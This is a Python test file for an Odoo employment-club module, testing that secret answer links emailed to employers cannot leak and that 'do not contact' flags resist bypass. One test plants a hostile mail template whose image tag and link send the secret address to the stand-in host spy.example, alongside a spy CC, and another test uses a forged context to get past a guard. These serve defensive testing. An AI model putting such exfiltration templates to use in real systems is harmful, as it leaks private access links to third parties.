import re

from markupsafe import Markup

from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, tagged
from odoo.tools import verify_hash_signed

from ...models.tools.club_guard_mixin import BY_LINK
from ...utils import clock
from ..answer_common import AnswerCase, SecretCase

SECRET = "/clubs/reponse/"


@tagged("post_install", "-at_install")
class TestAnswerSecret(SecretCase):
    """The address that answers is in the outgoing mail, and nowhere else."""

    def test_no_column_keeps_a_secret(self):
        """Of a first message, a reminder, thanks, questions, a link handed over."""
        self.link._send(reminder=True)
        self.first._record_hire(kind="cdi")
        self.first.placement_ids.with_user(self.animateur).action_thank_employer()
        self.yanis.person_id.email = "yanis@example.com"
        self.env["club.followup.question"]._send(
            self.first.placement_ids.followup_ids[:1], "person"
        )
        links = self.env["club.answer.link"].search([])
        mails = self.mails_of(links)
        self.assertEqual(len(mails), 4)
        for mail in mails:
            self.assertTrue(mail.auto_delete)
            self.assertIn(f'{SECRET}-"', mail.body_html)
        before = self.env["club.answer.key"].search_count([])
        tokens = self.leave(mails)
        self.assertEqual(self.env["club.answer.key"].search_count([]), before + 4)
        dialog = self.link.with_user(self.animateur).action_hand_over()
        tokens.append(dialog["context"]["default_address"].split(SECRET)[1])
        self.assertEqual(len(set(tokens)), 5)
        Key = self.env["club.answer.key"]
        for token in tokens:
            self.assertIn(Key._find(token).link_id, links)
            self.assertEqual(self.where(token), set())
            secret = verify_hash_signed(self.env, "club-answer", token)[1]
            self.assertEqual(self.where(secret), set())

    def test_a_failed_mail_tells_nothing_and_leaves_with_another(self):
        mail = self.mails()
        first = self.token(mail)
        mail.write({"state": "exception"})
        mail.action_retry()
        (second,) = self.leave(mail)
        self.assertNotEqual(first, second)
        for token in (first, second):
            self.assertEqual(self.where(token), set())

    def test_each_message_has_its_own_secret_and_all_open(self):
        """A reminder kills nothing: what is in the employer's mailbox works."""
        self.link._send(reminder=True)
        tokens = set(self.leave(self.mails()))
        self.assertEqual(len(tokens), 2)
        for token in tokens:
            key = self.env["club.answer.key"]._find(token)
            self.assertEqual((key.link_id, key.way), (self.link, BY_LINK))

    def test_a_template_sends_the_secret_to_nobody_else(self):
        """Who edits templates reads no mail: no copy, no other place for the address."""
        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
        spy = self.env["res.partner"].create({"name": "Spy", "email": "spy@x.com"})
        server = self.env["ir.mail_server"].create(
            {"name": "Mine", "smtp_host": "x", "from_filter": "x.com"}
        )
        template.write(
            {
                "email_cc": "spy@x.com",
                "partner_to": str(spy.id),
                "mail_server_id": server.id,
                "body_html": """<div><a t-att-href="ctx.get('club_address')">x</a>
                    <img t-attf-src="https://spy.example/?{{ ctx.get('club_address') }}"/>
                    <a t-attf-href="https://spy.example/?{{ ctx.get('club_address') }}">
                        x</a></div>""",
            }
        )
        self.link._send(reminder=True)
        mail = self.mails().sorted("id")[-1]
        self.assertFalse(mail.email_cc or mail.recipient_ids or mail.mail_server_id)
        body = self.leaving(mail)
        for address in re.findall(r"https?://[^\s\"<>]+", body):
            if len(address.split(SECRET)[-1]) > 5:
                self.assertTrue(address.startswith(self.link.get_base_url()), address)

    def test_no_caller_has_a_secret_put_in_a_mail(self):
        """A template is sent by RPC, to whom its caller likes: without a secret."""
        template = self.env["mail.template"].create(
            {
                "name": "Mine",
                "model_id": self.env["ir.model"]._get("club.answer.link").id,
                "body_html": """<a t-att-href="ctx.get('club_address')">x</a>""",
            }
        )
        before = self.env["mail.mail"].search([])
        for user in (self.animateur, self.manager):
            mine = template.with_user(user)
            values = {"email_to": "me@x.com", "club_link_id": self.link.id}
            context = {
                "club_address": f"https://x{SECRET}-",
                "club_link": True,
                "default_club_link_id": self.link.id,
            }
            mine.with_context(**context).send_mail(self.link.id, email_values=values)
        made = self.env["mail.mail"].search([]) - before
        self.assertEqual(len(made), 2)
        self.assertFalse(made.club_link_id)
        for mail in made:
            mail.write({"club_link_id": self.link.id})
            self.assertFalse(mail.club_link_id)
            self.assertNotIn("reponse/A", self.leaving(mail))

    def test_a_link_leaves_by_no_mailbox_of_who_wrote(self):
        mine, agency = self.env["ir.mail_server"].create(
            [
                {
                    "name": name,
                    "smtp_host": "x",
                    "from_filter": self.animateur.email,
                    "owner_user_id": owner,
                }
                for name, owner in (("Mine", self.animateur.id), ("Agency", False))
            ]
        )
        mail = self.mails()
        self.assertEqual(mail._filter_mail_mail_servers(mine | agency), agency)

    def test_nobody_writes_to_oneself(self):
        """The address of a user is no employer's: who writes would answer."""
        with self.assertRaisesRegex(UserError, "the address of a user"):
            self.send(self.first, email=self.animateur.email.upper())
        self.first._record_hire(kind="cdi")
        line = self.first.placement_ids.followup_ids[:1]
        self.employer.email = self.animateur.email
        self.env["club.followup.question"]._send(line, "employer")
        self.assertFalse(line.link_ids)

    def test_a_sent_mail_goes_away(self):
        mail = self.mails()
        message = mail.mail_message_id
        with self.mock_mail_gateway(mail_unlink_sent=True):
            mail.send()
        self.assertFalse(mail.exists() or message.exists())

    def test_the_thread_says_that_it_left(self):
        for candidacy in self.candidacies:
            bodies = "".join(candidacy.message_ids.mapped("body"))
            self.assertIn("Sent to Boulangerie", bodies)

    def test_a_reply_that_quotes_the_address_tells_nothing(self):
        token = self.token(self.mails())
        quotes = (
            f"<p>https://clubs.example.org{SECRET}{token}</p>",
            f"<a href='https://safe.example.com/?u=x%2Fclubs%2Freponse%2F{token}'>x</a>",
        )
        for quote in quotes:
            message = self.first.message_post(body=Markup(quote))
            self.assertNotIn(token, message.body)
            message.write({"body": quote})
            self.assertNotIn(token, message.body)

    def test_who_coaches_reads_no_address(self):
        """By RPC, as each role that reads links: no field, no message, no template."""
        token = self.token(self.mails())
        for user in (self.animateur, self.manager):
            env = self.env(user=user)
            for name in env["club.answer.link"].fields_get():
                self.assertNotIn(token, str(self.link.with_user(user).read([name])))
            messages = env["mail.message"].search([("model", "=", "club.answer.link")])
            self.assertNotIn(token, str(messages.read(["body", "preview"])))
            for model in ("mail.mail", "club.answer.key"):
                with self.assertRaises(AccessError):
                    env[model].search([])


@tagged("post_install", "-at_install")
class TestHireToConfirm(AnswerCase, HttpCase):
    """A hire told by link is confirmed by the animateur, or set aside."""

    def setUp(self):
        super().setUp()
        self.path = self.page_of(self.link)
        self.press("hired")

    def press(self, action, **form):
        self.env.flush_all()
        form |= {"action": action, "candidacy": self.first.id}
        answer = self.url_open(self.path, data=form)
        self.env.invalidate_all()
        return answer

    def today(self):
        board = self.env["club.club"].with_user(self.animateur)
        return self.club.with_env(board.env)._today_list()

    def test_it_tops_the_list_of_the_day(self):
        self.second.sudo().sent_on = "2026-01-05"
        lines = self.today()
        self.assertEqual((lines[0]["kind"], lines[0]["id"]), ("hire", self.first.id))
        self.assertNotIn(
            ("chase", self.first.id), [(x["kind"], x["id"]) for x in lines]
        )
        self.assertEqual(self.first.step_level, "late")

    def test_confirmed_with_its_contract_and_first_day(self):
        mine = self.first.with_user(self.animateur)
        # The first answer is of another day than the hire.
        self.first.answered_on = "2026-01-05"
        action = mine.action_confirm_hire()
        dialog = (
            self.env[action["res_model"]]
            .with_user(self.animateur)
            .with_context(**action["context"])
            .create({"kind": "cdi"})
        )
        self.assertEqual(dialog.date_start, clock.today(self.club))
        dialog.action_confirm()
        self.assertEqual((self.first.state, self.yanis.state), ("hired", "exited"))
        self.assertFalse(self.first.activity_ids)
        self.assertNotIn("hire", [line["kind"] for line in self.today()])
        # Cancelled, what the employer said stands: to confirm, or to set aside.
        mine.action_cancel_hire()
        self.assertEqual(mine.employer_answer, "hired")
        self.assertTrue(mine.hire_to_confirm)
        mine.action_deny_hire()
        self.assertFalse(mine.hire_to_confirm)

    def test_set_aside_and_told_again(self):
        mine = self.first.with_user(self.animateur)
        mine.action_deny_hire()
        self.assertFalse(self.first.hire_to_confirm or self.first.activity_ids)
        self.assertIn("not a hire", self.first.message_ids[0].body)
        with self.assertRaisesRegex(UserError, "no hire to confirm"):
            mine.action_deny_hire()
        self.press("hired")
        self.assertTrue(self.first.hire_to_confirm)

    def test_who_was_refused_may_be_hired_after_all(self):
        self.first.write({"state": "refused", "refusal_reason_id": self.reason.id})
        self.assertTrue(self.first.hire_to_confirm)
        dialog = self.env["club.candidacy.hire"].with_user(self.animateur)
        dialog.create({"candidacy_id": self.first.id, "kind": "cdi"}).action_confirm()
        self.assertEqual(self.first.state, "hired")

    def test_reading_writes_nothing(self):
        """A mail filter opens every address: not a row of the database changes."""
        self.env.flush_all()
        count = "SELECT sum(n_tup_ins + n_tup_upd + n_tup_del) FROM pg_stat_xact_user_tables"
        self.env.cr.execute(count)
        before = self.env.cr.fetchone()
        self.assertEqual(self.url_open(self.path).status_code, 200)
        self.env.flush_all()
        self.env.cr.execute(count)
        self.assertEqual(self.env.cr.fetchone(), before)


@tagged("post_install", "-at_install")
class TestStop(AnswerCase):
    """“Do not contact me”: undone on the employer's word, written down."""

    def setUp(self):
        super().setUp()
        self.employer.club_network_status = "stop"
        self.mine = self.employer.with_user(self.animateur)

    def test_no_road_but_the_dialog_undoes_it(self):
        for user in (self.animateur, self.manager):
            mine = self.employer.with_user(user)
            for value in ("contacted", "partner", False):
                with self.assertRaisesRegex(UserError, "contacted again"):
                    mine.write({"club_network_status": value})
            names = ["id", "club_network_status"]
            xmlid = self.employer.export_data(["id"])["datas"][0][0]
            lines = [[xmlid, "Contacted"]]
            self.assertFalse(mine.load(names, lines)["ids"])
            forged = mine.with_context(club_guard=True)
            with self.assertRefused(UserError, "asked not to be contacted any more"):
                forged.write({"club_network_status": "prospect"})
        self.assertEqual(self.employer.club_network_status, "stop")

    def test_the_word_of_the_employer_is_required_and_kept(self):
        action = self.mine.action_lift_club_stop()
        Lift = self.env[action["res_model"]].with_user(self.animateur)
        Lift = Lift.with_context(**action["context"])
        with self.assertRefused(UserError, "Write who said so at the employer's"):
            Lift.create({"words": "  "}).action_confirm()
        Lift.create({"words": "Ms Roy, on the phone"}).action_confirm()
        self.assertEqual(self.employer.club_network_status, "contacted")
        message = self.employer.message_ids[0]
        self.assertIn("Ms Roy, on the phone", message.body)
        self.assertEqual(message.author_id, self.animateur.partner_id)

    def test_other_facts_of_the_employer_are_written_as_before(self):
        self.mine.write({"phone": "0199001122", "club_network_status": "stop"})
        self.assertEqual(self.employer.club_network_status, "stop")
